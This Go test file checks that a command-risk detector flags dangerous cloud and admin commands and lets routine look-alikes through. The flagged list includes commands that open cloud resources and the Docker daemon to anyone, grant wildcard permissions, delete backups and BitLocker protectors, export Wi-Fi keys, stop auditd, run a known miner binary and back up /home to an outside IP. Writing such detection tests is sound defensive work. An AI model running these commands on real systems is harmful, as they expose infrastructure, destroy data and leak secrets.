package detect_test

import (
	"testing"

	"github.com/rulewind/rulewind/proxy/detect"
)

// TestOpsCommands tells the lines of administrators that let in or look away from
// their daily ones.
func TestOpsCommands(t *testing.T) {
	lines(t, `
aws lambda create-function-url-config --function-name f --auth-type NONE
aws iam create-role --role-name r --assume-role-policy-document '{"Statement":[{"Effect":"Allow","Principal":{"AWS":"*"},"Action":"sts:AssumeRole"}]}'
aws ec2 modify-instance-metadata-options --instance-id i-1 --http-tokens optional
aws s3api put-bucket-logging --bucket b --bucket-logging-status '{}'
az aks get-credentials -g g -n c --admin
az backup protection disable -v v -i i --delete-backup-data true
az role definition create --role-definition '{"Actions":["*"]}'
gcloud compute instances add-metadata v --metadata-from-file startup-script=/tmp/a
gcloud sql instances patch d --authorized-networks=0.0.0.0/0
gcloud storage buckets update gs://b --clear-retention-period
Set-SmbServerConfiguration -EnableSMB1Protocol '$true'
kubectl create rolebinding x --clusterrole=edit --group=system:authenticated
gcloud projects set-iam-policy p policy.json
hcloud firewall add-rule f --direction in --port any --source-ips 0.0.0.0/0
oci iam policy create --statements '["Allow any-user to manage all-resources in tenancy"]'
kubectl label ns shop pod-security.kubernetes.io/enforce=privileged
oc adm policy add-scc-to-user privileged -z default
dockerd -H tcp://0.0.0.0:2375
cosign verify --insecure-ignore-tlog a
npm owner add mallory left
go env -w GOFLAGS=-toolexec=/tmp/a
manage-bde -protectors -delete C:
netsh wlan export profile key=clear
ftype exefile=
restic -r rest:http://198.51.100.7:8000/ backup /home
knife ssh 'name:*' 'sudo systemctl stop auditd'
./kdevtmpfsi -c /tmp/c.json
`, func(line string, score detect.Score, _ []detect.Finding) {
		if score < detect.Medium {
			t.Errorf("%s: score %v, want Medium", line, score)
		}
	})
	lines(t, `
aws lambda create-function-url-config --function-name f --auth-type AWS_IAM
aws ec2 modify-instance-metadata-options --instance-id i-1 --http-tokens required
aws ssm start-session --target i-1
az aks get-credentials -g g -n c
az role definition list --custom-role-only
gcloud compute instances add-metadata v --metadata env=dev
gcloud sql instances describe d
gcloud storage buckets update gs://b --versioning
kubectl create rolebinding x --clusterrole=view --group=team-a
gcloud projects get-iam-policy p
hcloud firewall describe f
kubectl label ns shop team=web
kubectl label ns shop pod-security.kubernetes.io/enforce=restricted
docker info
cosign verify --key k.pub a
npm owner ls left
go env GOFLAGS
manage-bde -status C:
netsh wlan show interfaces
ftype
restic -r /mnt/backup backup /home
knife node list
`, func(line string, score detect.Score, all []detect.Finding) {
		if score > detect.Low {
			t.Errorf("%s: score %v, want Low at most: %+v", line, score, all)
		}
	})
}
